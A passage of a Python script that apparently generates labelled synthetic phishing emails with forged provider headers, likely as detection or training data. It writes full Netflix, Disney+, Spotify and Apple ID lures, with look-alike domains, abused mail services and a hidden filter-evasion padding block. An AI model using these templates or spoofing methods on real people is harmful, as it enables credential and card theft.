        f"X-Google-Smtp-Source: AGHT+I{alnum(stem + 'sgss', 80)}",
        f"X-Received: by 2002:a05:{hexs(stem + 'sx1', 4)}:{hexs(stem + 'sx2', 3)}:b0:{hexs(stem + 'sx3', 3)}:{hexs(stem + 'sx4', 4)}:{hexs(stem + 'sx5', 4)} with SMTP id "
        f"{alnum(stem + 'sx6', 6, LOWERNUM)}-{digits(stem + 'sx7', 20)}{alnum(stem + 'sx8', 3, LOWERNUM)}.{digits(stem + 'sx9', 3)}.{digits(stem + 'sxa', 4)};\n"
        f"        {format_datetime(local)} ({local.tzname()})",
    ]
    return hops, f"<CA{alnum(stem + 'gmid', 1, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ+')}{alnum(stem + 'gmid2', 45, ALNUM + '+_-=')}@mail.gmail.com>"


def outlook_sent(stem: str, when: datetime, domain: str = "hotmail.com", eu: bool = False) -> tuple[list[str], str, str]:
    """Hops of a message written in Outlook.com; returns (hops, Message-ID, Thread-Index)."""
    region, v6 = ("eurprd02", "2603:10a6:20b") if eu else ("namprd13", "2603:10b6:a03")
    box = f"{'DB9PR02MB' if eu else 'SJ0PR13MB'}{digits(stem + 'obox', 4)}"
    box2 = f"{'AS8PR02MB' if eu else 'SA1PR13MB'}{digits(stem + 'obox2', 4)}"
    build = f"15.20.{8 if when.year >= 2025 else 7}{digits(stem + 'obld', 3)}.{digits(stem + 'obld2', 3)}"
    hops = [
        f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={fold_token(b64(stem + 'oarc', 256), ' ', 66, 76)}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n"
        f" h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-1;\n"
        f" bh={b64(stem + 'oarcbh', 32)};\n b={fold_token(b64(stem + 'oarcb', 256), ' ', 66, 76)}",
        "ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=none; dmarc=none;\n dkim=none; arc=none",
        dkim(stem, domain, "selector1", when, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
        f"Received: from {box}.{region}.prod.outlook.com ({v6}:{hexs(stem + 'o6', 3)}::{10 + int(digits(stem + 'o6b', 2)) % 80})\n"
        f" by {box2}.{region}.prod.outlook.com ({v6}:{hexs(stem + 'o6c', 3)}::{10 + int(digits(stem + 'o6d', 2)) % 80}) with Microsoft SMTP Server\n"
        f" (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build};\n {rfc(when)}",
        f"Received: from {box}.{region}.prod.outlook.com\n ([fe80::{hexs(stem + 'fe80a', 4)}:{hexs(stem + 'fe80b', 4)}:{hexs(stem + 'fe80c', 4)}:{hexs(stem + 'fe80d', 4)}]) by {box}.{region}.prod.outlook.com\n"
        f" ([fe80::{hexs(stem + 'fe80a', 4)}:{hexs(stem + 'fe80b', 4)}:{hexs(stem + 'fe80c', 4)}:{hexs(stem + 'fe80d', 4)}%6]) with mapi id {build}; {rfc(when)}",
    ]
    mid = f"<{box}{alnum(stem + 'omid', 26, UPPERNUM)}@{box}.{region}.prod.outlook.com>"
    tindex = "AQH" + alnum(stem + "otix", 29, ALNUM + "+/") + "=="
    return hops, mid, tindex


def outlook_sent_tail(stem: str, lang: str = "en-US", attach: bool = False) -> str:
    return (f"Accept-Language: {lang}\nContent-Language: {lang}\nX-MS-Has-Attach:{' yes' if attach else ''}\nX-MS-TNEF-Correlator:\n"
            f"x-ms-exchange-messagesentrepresentingtype: 1\nx-tmn: [{alnum(stem + 'tmn', 32, ALNUM + '+/')}]\n"
            f"x-ms-publictraffictype: Email\nx-ms-traffictypediagnostic: {alnum(stem + 'ttd', 12, UPPERNUM)}:EE_|{alnum(stem + 'ttd2', 12, UPPERNUM)}:EE_\n"
            f"x-ms-office365-filtering-correlation-id: {guid(stem + 'ocorr')}\nx-microsoft-antispam: BCL:0;ARA:14566002|15080799006|8060799006|461199028|{digits(stem + 'araz', 8)};\n"
            f"x-ms-exchange-antispam-messagedata-chunkcount: 1\nx-ms-exchange-antispam-messagedata-0:\n =?us-ascii?Q?{alnum(stem + 'amd', 64)}?=")


def outlook_html(paragraphs: list[str], font: str = "Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif") -> str:
    body = "".join(f'<div class="elementToProof" style="font-family: {font}; font-size: 12pt; color: rgb(0, 0, 0);">{p}</div>\n'
                   for p in paragraphs)
    return ('<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>\n'
            f'</head>\n<body dir="ltr">\n{body}</body>\n</html>\n')


def yahoo_sent(stem: str, when: datetime, sender: str) -> tuple[list[str], str, str]:
    """Hops of Yahoo Mail web; returns (hops, Message-ID, References)."""
    ms = ts(when) * 1000 + int(digits(stem + 'yms', 3))
    n1, n2 = digits(stem + 'yn1', 10), digits(stem + 'yn2', 7)
    hops = [
        dkim(stem, "yahoo.com", "s2048", when, h="Date:From:To:Subject:References:From:Subject:Reply-To"),
        dkim(stem + "sonic", "yahoo.com", "s2048", when, h="X-Sonic-MF:Date:From:Subject:From:Subject").replace("DKIM-Signature", "X-SONIC-DKIM-SIGN"),
        f"X-YMail-OSG: {alnum(stem + 'yosg', 70, ALNUM + '._')}\n {alnum(stem + 'yosg2', 70, ALNUM + '._')}\n {alnum(stem + 'yosg3', 30, ALNUM + '._')}",
        f"X-Sonic-MF: <{sender}>",
        f"X-Sonic-ID: {guid(stem + 'sonic')}",
        f"Received: from sonic.gate.mail.ne1.yahoo.com by sonic{300 + int(digits(stem + 'son', 2))}.consmr.mail.ne1.yahoo.com with HTTP; {rfc(when)}",
    ]
    return hops, f"<{n1}.{n2}.{ms}@mail.yahoo.com>", f"<{n1}.{n2}.{ms}.ref@mail.yahoo.com>"


def gmx_sent(stem: str, when: datetime, sender: str, client_ip: str, brand: str = "gmx") -> tuple[list[str], str, str]:
    """Hops of the GMX / mail.com web client; returns (hops, Message-ID, trailing headers)."""
    dom = {"gmx": "gmx.net", "gmxcom": "gmx.com", "mailcom": "mail.com"}[brand]
    sig_dom = sender.split("@")[1]
    app = {"gmx": "3c-app-gmx-bap", "gmxcom": "3c-app-gmx-bs", "mailcom": "3c-app-mailcom-bs"}[brand] + digits(stem + 'app', 2)
    web = "web-mail.mail.com" if brand == "mailcom" else "web-mail.gmx.net"
    relay = "mail.mail.com" if brand == "mailcom" else "mail.gmx.net"
    node = ("mrmcom" if brand == "mailcom" else "mrgmx") + "0" + digits(stem + 'mr', 2)
    hops = [
        dkim(stem, sig_dom, "s1089575", when, expire=604800, extra=f"i={sender}",
             h="X-UI-Sender-Class:MIME-Version:Message-ID:From:To:Subject:Content-Type:Date:cc:content-transfer-encoding:content-type:date:from:message-id:mime-version:reply-to:subject:to"),
        "X-UI-Sender-Class: 214d933f-fd2f-45c7-a636-f5d79ae31a79",
        f"Received: from [{client_ip}] ([{client_ip}]) by {web}\n ({app}.server.lan [172.19.172.{int(digits(stem + 'l', 2)) + 50}]) (via HTTP); {rfc(when, BERLIN)}",
    ]
    mid = f"<trinity-{guid(stem + 'trin')}-{ts(when) * 1000 + int(digits(stem + 'tms', 3))}@{app}>"
    tail = (f"Importance: normal\nSensitivity: Normal\nX-Priority: 3\n"
            f"X-Provags-ID: V03:K1:{b64(stem + 'prov', 60)}\n {b64(stem + 'prov2', 40)}\n"
            f"X-UI-Out-Filterresults: notjunk:1;V03:K0:{b64(stem + 'uiout', 8)}:{b64(stem + 'uiout2', 96)}")
    return hops, mid, f"{relay}|{node}|{tail}"


def ses_hops(stem: str, when: datetime, region: str = "us-east-1") -> tuple[str, str]:
    """Amazon SES Message-ID and the envelope sender SES uses."""
    prefix = "0100" if region == "us-east-1" else "0102"
    ms = format(ts(when) * 1000, "x")
    mid = f"{prefix}0{ms}-{guid(stem + 'ses')}-000000"
    return mid, f"{mid}@{'amazonses.com' if region == 'us-east-1' else region + '.amazonses.com'}"


BECH32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def btc_address(seed: str) -> str:
    return "bc1q" + alnum(seed, 38, BECH32)


# --------------------------------------------------------------------------
# attacks
# --------------------------------------------------------------------------

def p01_netflix_payment_hold() -> None:
    stem = "b50-phish-netflix-payment-hold"
    rcpt = "jordan.whitfield1987@outlook.com"
    dom = "account-nflx-services.com"
    sent = utc(2024, 2, 19, 14, 22, 3)
    link = f"https://nflx-billing-update.pages.dev/?session={b64url(stem + 's', 18)}&em={base64.b64encode(rcpt.encode()).decode()}"
    plain = ("Your membership is on hold\n\nHi,\n\nWe're having some trouble with your current billing information. "
             "We'll try again, but in the meantime you may want to update your payment details.\n\n"
             f"UPDATE ACCOUNT\n{link}\n\nNeed help? We're here if you need it. Visit the Help Center or contact us now.\n\n"
             "- Your friends at Netflix\n\nThis message was mailed to " + rcpt + " by Netflix as part of your Netflix membership.\n")
    html = f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Netflix</title></head>
<body style="margin:0;padding:0;background-color:#ffffff;">
<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff"><tr><td align="center">
<table width="500" cellpadding="0" cellspacing="0" border="0" style="max-width:500px;font-family:Helvetica,Arial,sans-serif;color:#221f1f;">
<tr><td style="padding:30px 40px 10px 40px;"><img src="https://{dom}/assets/nf-logo-red.png" width="94" height="25" alt="NETFLIX" style="display:block;border:0;"></td></tr>
<tr><td style="padding:20px 40px 0 40px;font-size:36px;font-weight:bold;line-height:40px;">Your membership is on hold</td></tr>
<tr><td style="padding:20px 40px 0 40px;font-size:14px;line-height:20px;">Hi,</td></tr>
<tr><td style="padding:10px 40px 0 40px;font-size:14px;line-height:20px;">We're having some trouble with your current billing information. We'll try again, but in the meantime you may want to update your payment details.</td></tr>
<tr><td style="padding:30px 40px;"><table cellpadding="0" cellspacing="0" border="0" width="100%"><tr>
<td align="center" bgcolor="#e50914" style="border-radius:4px;"><a href="{link}" style="display:block;padding:14px 0;font-size:16px;font-weight:bold;color:#ffffff;text-decoration:none;">Update Account</a></td>
</tr></table></td></tr>
<tr><td style="padding:0 40px;font-size:14px;line-height:20px;">Need help? We're here if you need it. Visit the <a href="{link}&amp;p=help" style="color:#221f1f;">Help Center</a> or <a href="{link}&amp;p=contact" style="color:#221f1f;">contact us</a> now.</td></tr>
<tr><td style="padding:20px 40px 0 40px;font-size:14px;">&ndash;Your friends at Netflix</td></tr>
<tr><td style="padding:30px 40px;"><hr style="border:0;border-top:2px solid #221f1f;"></td></tr>
<tr><td style="padding:0 40px 30px 40px;font-size:11px;line-height:15px;color:#a9a6a6;">Questions? Call 1-866-579-7172<br><br>This message was mailed to [{rcpt}] by Netflix as part of your Netflix membership.<br>Netflix International B.V.</td></tr>
</table></td></tr></table>
</body></html>
"""
    qid = alnum(stem + "qid", 11, UPPERNUM)
    hops = [
        dkim(stem, dom, "mail", sent),
        rcv(f"from localhost (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id 4TdQ{qid}\n\tfor <{rcpt}>", sent),
    ]
    headers = f"""From: Netflix <info@{dom}>
To: {rcpt}
Subject: Your membership is on hold
Date: {rfc(sent)}
Message-ID: <{hexs(stem + 'mid', 24)}@{dom}>
MIME-Version: 1.0
X-Mailer: Mailer 2.1"""
    emit(stem, "phishing",
         "Netflix 'membership on hold, update payment' from a freshly registered look-alike domain that passes SPF and DKIM; the button leads to a Cloudflare Pages credential and card harvest page.",
         Inbound("outlook", rcpt, sent + timedelta(seconds=4), "193.149.187.54", f"mail.{dom}", f"bounce@{dom}",
                 dkim=[(dom, "mail", "pass")], dmarc="", hfrom=dom, country="NL"),
         hops, headers, alt(plain, html, bnd(stem)))


def p02_netflix_de_compromised() -> None:
    stem = "b50-phish-netflix-de-kompromittiert"
    rcpt = "heike.brandstaetter@gmx.de"
    sent = datetime(2024, 5, 7, 9, 41, 9, tzinfo=BERLIN).astimezone(UTC)
    sender = "info@tischlerei-kranz.de"
    link = f"https://www.physio-lenhardt-praxis.de/wp-content/uploads/2024/04/nfx/de/index.php?id={b64url(rcpt, 9)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Arial,Helvetica,sans-serif;font-size:14px;color:#333333;">
<div style="max-width:560px;margin:0 auto;">
<p style="font-size:28px;font-weight:bold;color:#e50914;letter-spacing:1px;margin:20px 0;">NETFLIX</p>
<p>Sehr geehrte/r Kunde/in,</p>
<p>leider konnten wir Ihre letzte Zahlung f&uuml;r Ihr Netflix-Abonnement nicht verarbeiten. Ihr Konto wurde daher vor&uuml;bergehend pausiert.</p>
<p>Damit Sie Ihre Lieblingsserien und Filme weiterhin ohne Unterbrechung genie&szlig;en k&ouml;nnen, aktualisieren Sie bitte innerhalb von 48 Stunden Ihre Zahlungsinformationen.</p>
<p style="margin:28px 0;"><a href="{link}" style="background:#e50914;color:#ffffff;padding:12px 26px;text-decoration:none;border-radius:3px;font-weight:bold;">Zahlungsinformationen aktualisieren</a></p>
<p>Vielen Dank, dass Sie sich f&uuml;r Netflix entschieden haben.</p>
<p>Ihr Netflix-Team</p>
<p style="font-size:11px;color:#999999;margin-top:30px;">Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese Nachricht.</p>
</div></body></html>
"""
    hops = [
        rcv(f"from [185.234.216.77] ([185.234.216.77]) by mrelayeu.kundenserver.de\n (mreue106 [212.227.15.183]) with ESMTPSA (Nemesis) id 1M{alnum(stem + 'n1', 5)}-1{alnum(stem + 'n2', 9)}-00{alnum(stem + 'n3', 4)} for\n <{rcpt}>", sent, BERLIN),
    ]
    headers = f"""From: =?UTF-8?Q?Netflix?= <{sender}>
To: {rcpt}
Subject: {qword("Ihr Konto wurde vorübergehend pausiert")}
Date: {rfc(sent, BERLIN)}
Message-ID: <{hexs(stem + 'mid', 32)}@tischlerei-kranz.de>
MIME-Version: 1.0
X-Provags-ID: V03:K1:{b64(stem + 'prov', 60)}
X-Spam-Flag: NO
X-UI-Out-Filterresults: notjunk:1;V03:K0:{b64(stem + 'uio', 8)}:{b64(stem + 'uio2', 90)}"""
    emit(stem, "phishing",
         "German Netflix 'Konto pausiert' notice sent through the hijacked IONOS mailbox of a carpentry firm (SPF pass, no DKIM); the payment link points into the uploads folder of a compromised WordPress physiotherapy site.",
         Inbound("gmx", rcpt, sent + timedelta(seconds=3), "212.227.126.187", "mout.kundenserver.de", sender,
                 dkim=[], dmarc="", hfrom="tischlerei-kranz.de"),
         hops, headers, text(html, "html"))


def p03_disneyplus_sendgrid() -> None:
    stem = "b50-phish-disneyplus-sendgrid"
    rcpt = "kirsten.mayfield77@gmail.com"
    dom = "hprealtygroup.com"
    sent = utc(2024, 8, 22, 16, 5, 30)
    uid = "38291044"
    click = lambda n: f"https://u{uid}.ct.sendgrid.net/ls/click?upn=u001.{b64(stem + 'upn' + str(n), 150).replace('/', '-').replace('+', '_').rstrip('=')}"
    plain = ("Disney+\n\nHi there,\n\nWe were unable to renew your Disney+ subscription because your payment method was declined.\n\n"
             "To keep enjoying Disney+ without interruption, please update your billing details within 72 hours. "
             "If we don't receive updated information, your account will be suspended.\n\n"
             f"Update payment: {click(1)}\n\nThanks,\nThe Disney+ Team\n\n"
             "© 2024 Disney and its related entities. 500 South Buena Vista Street, Burbank, CA 91521, U.S.A.\n")
    html = f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
<html data-editor-version="2" class="sg-campaigns" xmlns="http://www.w3.org/1999/xhtml">
<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1, minimum-scale=1, maximum-scale=1"></head>
<body>
<center class="wrapper" data-link-color="#1188E6" data-body-style="font-size:14px; font-family:arial,helvetica,sans-serif; color:#000000; background-color:#040714;">
<div class="webkit">
<table cellpadding="0" cellspacing="0" border="0" width="100%" class="wrapper" bgcolor="#040714">
<tr><td valign="top" bgcolor="#040714" width="100%">
<table width="100%" role="content-container" class="outer" align="center" cellpadding="0" cellspacing="0" border="0"><tr><td width="100%">
<table width="100%" cellpadding="0" cellspacing="0" border="0"><tr><td>
<table width="100%" cellpadding="0" cellspacing="0" border="0" style="width:100%; max-width:600px;" align="center">
<tr><td role="modules-container" style="padding:0px 0px 0px 0px; color:#f9f9f9; text-align:left;" bgcolor="#040714" width="100%" align="left">
<table class="wrapper" role="module" data-type="image" border="0" cellpadding="0" cellspacing="0" width="100%" style="table-layout: fixed;">
<tr><td style="font-size:6px; line-height:10px; padding:30px 0px 10px 0px;" valign="top" align="center">
<img class="max-width" border="0" style="display:block; color:#000000; text-decoration:none; font-family:Helvetica, arial, sans-serif; font-size:16px;" width="120" alt="Disney+" src="http://cdn.mcauto-images-production.sendgrid.net/{hexs(stem + 'img1', 16)}/{guid(stem + 'img2')}/240x130.png"></td></tr></table>
<table class="module" role="module" data-type="text" border="0" cellpadding="0" cellspacing="0" width="100%" style="table-layout: fixed;">
<tr><td style="padding:18px 30px 18px 30px; line-height:24px; text-align:inherit;" height="100%" valign="top" role="module-content">
<div><div style="font-family: inherit; text-align: inherit"><span style="color: #f9f9f9; font-size: 24px"><strong>We couldn't process your payment</strong></span></div>
<div style="font-family: inherit; text-align: inherit"><br></div>
<div style="font-family: inherit; text-align: inherit"><span style="color: #cacaca; font-size: 15px">Hi there,</span></div>
<div style="font-family: inherit; text-align: inherit"><span style="color: #cacaca; font-size: 15px">We were unable to renew your Disney+ subscription because your payment method was declined. To keep enjoying Disney+ without interruption, please update your billing details within 72 hours.</span></div>
<div style="font-family: inherit; text-align: inherit"><br></div>
<div style="font-family: inherit; text-align: inherit"><span style="color: #cacaca; font-size: 15px">If we don't receive updated information, your account will be suspended.</span></div><div></div></div></td></tr></table>
<table border="0" cellpadding="0" cellspacing="0" class="module" data-role="module-button" data-type="button" role="module" style="table-layout:fixed;" width="100%">
<tr><td align="center" bgcolor="" class="outer-td" style="padding:10px 0px 30px 0px;">
<table border="0" cellpadding="0" cellspacing="0" class="wrapper-mobile" style="text-align:center;"><tr>
<td align="center" bgcolor="#0063e5" class="inner-td" style="border-radius:6px; font-size:16px; text-align:center; background-color:inherit;">
<a href="{click(1)}" style="background-color:#0063e5; border:1px solid #0063e5; border-color:#0063e5; border-radius:5px; border-width:1px; color:#ffffff; display:inline-block; font-size:15px; font-weight:bold; letter-spacing:1px; line-height:normal; padding:14px 40px 14px 40px; text-align:center; text-decoration:none; border-style:solid; font-family:arial,helvetica,sans-serif;" target="_blank">UPDATE PAYMENT</a></td></tr></table></td></tr></table>
<table class="module" role="module" data-type="text" border="0" cellpadding="0" cellspacing="0" width="100%" style="table-layout: fixed;">
<tr><td style="padding:18px 30px 30px 30px; line-height:16px; text-align:inherit;" height="100%" valign="top" role="module-content">
<div><div style="font-family: inherit; text-align: center"><span style="color: #8f8f8f; font-size: 11px">&copy; 2024 Disney and its related entities. 500 South Buena Vista Street, Burbank, CA 91521, U.S.A.</span></div>
<div style="font-family: inherit; text-align: center"><a href="{click(2)}"><span style="color: #8f8f8f; font-size: 11px">Privacy Policy</span></a><span style="color: #8f8f8f; font-size: 11px"> | </span><a href="{click(3)}"><span style="color: #8f8f8f; font-size: 11px">Help Center</span></a></div><div></div></div></td></tr></table>
</td></tr></table></td></tr></table></td></tr></table></td></tr></table>
</div></center>
<img src="https://u{uid}.ct.sendgrid.net/wf/open?upn=u001.{b64(stem + 'open', 120).replace('/', '-').replace('+', '_').rstrip('=')}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;border-width:0 !important;margin-top:0 !important;margin-bottom:0 !important;margin-right:0 !important;margin-left:0 !important;padding-top:0 !important;padding-bottom:0 !important;padding-right:0 !important;padding-left:0 !important;"/>
</body></html>
"""
    sgid = alnum(stem + "sgid", 22, ALNUM + "-_")
    hops = [
        dkim(stem, dom, "s1", sent, h="content-type:from:mime-version:subject:reply-to:x-feedback-id:to:cc:content-type:from:subject:to", q=True),
        dkim(stem, "sendgrid.info", "smtpapi", sent, h="content-type:from:mime-version:subject:reply-to:x-feedback-id:to:cc:content-type:from:subject:to", q=True),
        f"Received: by recvd-5d8c9c8b7-x2r7k with SMTP id recvd-5d8c9c8b7-x2r7k-1-66C7610A-{digits(stem + 'rv', 2)}\n\t2024-08-22 16:05:30.{digits(stem + 'rvms', 9)} +0000 UTC m=+{digits(stem + 'm', 6)}.{digits(stem + 'm2', 9)}",
        f"Received: from MzgyOTEwNDQ (unknown)\n\tby geopod-ismtpd-12 (SG) with HTTP\n\tid {sgid}\n\tfor <{rcpt}>;\n\tThu, 22 Aug 2024 16:05:30.{digits(stem + 'sgms', 3)} +0000 (UTC)",
    ]
    headers = f"""Content-Type: multipart/alternative; boundary={hexs(stem + 'bnd0', 64)}
Date: Thu, 22 Aug 2024 16:05:30 +0000 (UTC)
From: "Disney+" <billing@{dom}>
Mime-Version: 1.0
Message-ID: <{sgid}@geopod-ismtpd-12>
Subject: Action required: your Disney+ subscription could not be renewed
Reply-To: noreply@{dom}
X-Feedback-ID: {uid}:SG
X-SG-EID: u001.{b64(stem + 'eid', 90)}
X-SG-ID: u001.SdBcvi+Evd/bQef8eZF3BtFdxd0ePbKpG9MIBxS4N+V{b64(stem + 'sgidv', 60)}
To: {rcpt}
X-Entity-ID: u001.{b64(stem + 'ent', 24)}"""
    body = Multi("alternative", hexs(stem + "bnd0", 64), [text(plain, "plain"), text(html, "html")])
    # SendGrid writes Content-Type first; drop our duplicate by building headers without it.
    headers = headers.replace(f"Content-Type: multipart/alternative; boundary={hexs(stem + 'bnd0', 64)}\n", "")
    emit(stem, "phishing",
         "Disney+ 'payment declined, update within 72 hours' sent through the abused SendGrid account of a small real-estate firm (DKIM and DMARC pass for that unrelated domain); every link is a SendGrid click redirect hiding the card-harvesting page.",
         Inbound("gmail", rcpt, sent + timedelta(seconds=2), "149.72.154.232", "wrqvtzvf.outbound-mail.sendgrid.net",
                 f"bounces+{uid}-7a1f-kirsten.mayfield77=gmail.com@em8823.{dom}", helo="wrqvtzvf.outbound-mail.sendgrid.net",
                 dkim=[(dom, "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], dmarc="pass", policy="NONE", hfrom=dom),
         hops, headers, body)


def p04_spotify_hotmail_short() -> None:
    stem = "b50-phish-spotify-hotmail-shortlink"
    rcpt = "donna_kessler52@yahoo.com"
    sender = "spotify.team.notice@outlook.com"
    sent = utc(2025, 1, 9, 3, 17, 20)
    hops, mid, tix = outlook_sent(stem, sent, "outlook.com")
    lines = ["Hi,", "", "We were unable to process your last payment, so your Spotify Premium has been paused.", "",
             "To keep listening without interruption, confirm your billing details here:", "https://t.ly/Spf9x", "",
             "This link will expire in 24 hours.", "", "Spotify Support"]
    plain = "\n".join(lines) + "\n"
    html = outlook_html([l if l else "<br>" for l in lines[:4]] +
                        ['<a href="https://t.ly/Spf9x" id="LPlnk">https://t.ly/Spf9x</a>', "<br>", lines[6], "<br>", lines[8]])
    headers = f"""From: Spotify <{sender}>
To: "{rcpt}" <{rcpt}>
Subject: Your Premium is paused
Thread-Topic: Your Premium is paused
Thread-Index: {tix}
Date: {rfc(sent)}
Message-ID: {mid}
{outlook_sent_tail(stem)}
MIME-Version: 1.0"""
    emit(stem, "phishing",
         "Short Spotify 'Premium paused, confirm billing' note written from a free Outlook.com account (authenticates as outlook.com) with a t.ly shortened link to the card-harvesting page.",
         Inbound("yahoo", rcpt, sent + timedelta(seconds=3), "40.92.21.81", "mail-bn8nam12olkn2081.outbound.protection.outlook.com",
                 sender, helo="NAM12-BN8-obe.outbound.protection.outlook.com",
                 dkim=[("outlook.com", "selector1", "pass")], dmarc="pass", policy="NONE", hfrom="outlook.com"),
         hops, headers, alt(plain, html, bnd(stem, "outlook")))


def p05_appleid_spoofed() -> None:
    stem = "b50-phish-appleid-locked-spoof"
    rcpt = "rgoldbergfamily@aol.com"
    sent = datetime(2024, 3, 28, 12, 48, 2, tzinfo=PARIS).astimezone(UTC)
    host = "vps-7d21a0c4.vps.ovh.net"
    link = f"https://appleid.apple.com-signin.support/account/manage/?ref=lock&session={hexs(stem + 'sess', 32)}"
    html = f"""<html><head><meta charset="UTF-8"><title>Apple ID</title></head>
<body style="margin:0;padding:0;background:#ffffff;font-family:-apple-system,'SF Pro Text','Helvetica Neue',Helvetica,Arial,sans-serif;">
<table align="center" width="640" cellpadding="0" cellspacing="0" style="color:#333333;font-size:14px;line-height:20px;">
<tr><td align="right" style="padding:30px 40px 10px 40px;"><img src="https://i.ibb.co/Vv2k0Bq/apple-logo.png" width="22" height="26" alt="Apple"></td></tr>
<tr><td style="padding:10px 40px;font-size:14px;">Dear Customer,</td></tr>
<tr><td style="padding:10px 40px;">Your Apple ID ({rcpt}) was used to sign in to iCloud via a web browser.</td></tr>
<tr><td style="padding:10px 40px;">Date and Time: March 28, 2024, 4:42 AM PDT<br>Browser: Chrome<br>Operating System: Windows</td></tr>
<tr><td style="padding:10px 40px;">If you recently signed in to iCloud, you can disregard this email.<br>If you have not signed in to iCloud recently and believe someone may have accessed your account, for your security your Apple ID has been locked.</td></tr>
<tr><td style="padding:10px 40px;">To unlock your Apple ID and review the activity, please <a href="{link}" style="color:#0070c9;">verify your account</a> within 24 hours. Otherwise your account and all associated data will be permanently disabled.</td></tr>
<tr><td style="padding:20px 40px 10px 40px;">Apple Support</td></tr>
<tr><td style="padding:30px 40px;font-size:11px;color:#888888;border-top:1px solid #e1e1e1;"><a href="{link}" style="color:#0070c9;">Apple ID</a> | <a href="{link}" style="color:#0070c9;">Support</a> | <a href="{link}" style="color:#0070c9;">Privacy Policy</a><br>Copyright &copy; 2024 Apple Inc. One Apple Park Way, Cupertino, CA 95014, United States. All rights reserved.</td></tr>
</table></body></html>
"""
    hops = [
        rcv(f"by {host} (Postfix, from userid 33)\n\tid {alnum(stem + 'qid', 10, '0123456789ABCDEF')}", sent, PARIS),
    ]
    headers = f"""To: {rcpt}
Subject: Your Apple ID has been locked for security reasons
X-PHP-Originating-Script: 33:send.php
From: Apple <noreply@id.apple.com>
Reply-To: noreply@id.apple.com
MIME-Version: 1.0
Content-Transfer-Encoding: 8bit
X-Mailer: PHP/8.1.2-1ubuntu2.14
Message-Id: <20240328114802.{alnum(stem + 'mid', 10, '0123456789ABCDEF')}@{host}>
Date: {rfc(sent, PARIS)}"""
    # PHP mail() emits a single HTML part; the Content-Transfer-Encoding above belongs to it.
    headers = headers.replace("Content-Transfer-Encoding: 8bit\n", "")
    emit(stem, "phishing",
         "Apple ID 'locked for security reasons' sent by a PHP script on an OVH VPS while spoofing id.apple.com (SPF none, DMARC fail); the link uses an apple.com-signin.support look-alike host name.",
         Inbound("aol", rcpt, sent + timedelta(seconds=2), "51.75.146.203", host, f"www-data@{host}",
                 spf="none", dkim=[], dmarc="fail", policy="QUARANTINE", hfrom="id.apple.com", spam=True),
         hops, headers, Leaf("text/html", html.encode(), "8bit", '; charset=UTF-8'))


def p06_icloud_storage_gcs() -> None:
    stem = "b50-phish-icloud-storage-full"
    rcpt = "mbrennan.home@gmail.com"
    dom = "nexuspointdeals.shop"
    sub = f"q8.{dom}"
    sent = utc(2025, 6, 3, 22, 41, 7)
    link = f"https://storage.googleapis.com/icld-st-2291/index.html#?c={b64url(rcpt, 12)}&o=50gb"
    pad = ("The regional council met on Tuesday to review the new parking plan for the harbour district. "
           "Residents asked for more bicycle lanes and longer opening hours at the library. "
           "The weather service expects light rain over the weekend with temperatures around 18 degrees. ")
    subject = "⚠️ Your photos and videos will be deleted on 06/05/2025"
    plain = (f"Your iCloud storage is full.\n\nMember ID: 1198-2290-7731\n\nYour photos and videos will be deleted on 06/05/2025.\n\n"
             "As part of your loyalty program, you can now receive an additional 50 GB for free before the files on your cloud are deleted.\n\n"
             f"Get 50 GB free: {link}\n\nTo stop receiving these emails, write to unsubscribe@{dom}\n")
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;padding:0;background-color:#f2f2f7;">
<div style="display:none;font-size:1px;color:#f2f2f7;line-height:1px;max-height:0px;max-width:0px;opacity:0;overflow:hidden;">{pad * 3}</div>
<table width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#f2f2f7"><tr><td align="center" style="padding:24px 10px;">
<table width="560" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" style="border-radius:14px;font-family:Helvetica,Arial,sans-serif;">
<tr><td align="center" style="padding:30px 30px 10px 30px;"><a href="{link}"><img src="https://storage.googleapis.com/icld-st-2291/cloud-header.png" width="500" alt="iCloud" style="display:block;border:0;max-width:100%;"></a></td></tr>
<tr><td align="center" style="padding:10px 30px;font-size:26px;font-weight:bold;color:#1d1d1f;">Your storage is full</td></tr>
<tr><td align="center" style="padding:0 30px;font-size:13px;color:#86868b;">Member ID: 1198-2290-7731</td></tr>
<tr><td align="center" style="padding:20px 40px;font-size:16px;line-height:24px;color:#1d1d1f;">Your photos and videos will be <b>deleted</b> on 06/05/2025.<br><br>As part of your loyalty program, you can now receive an additional <b>50 GB for free</b> before the files on your cloud are deleted.</td></tr>
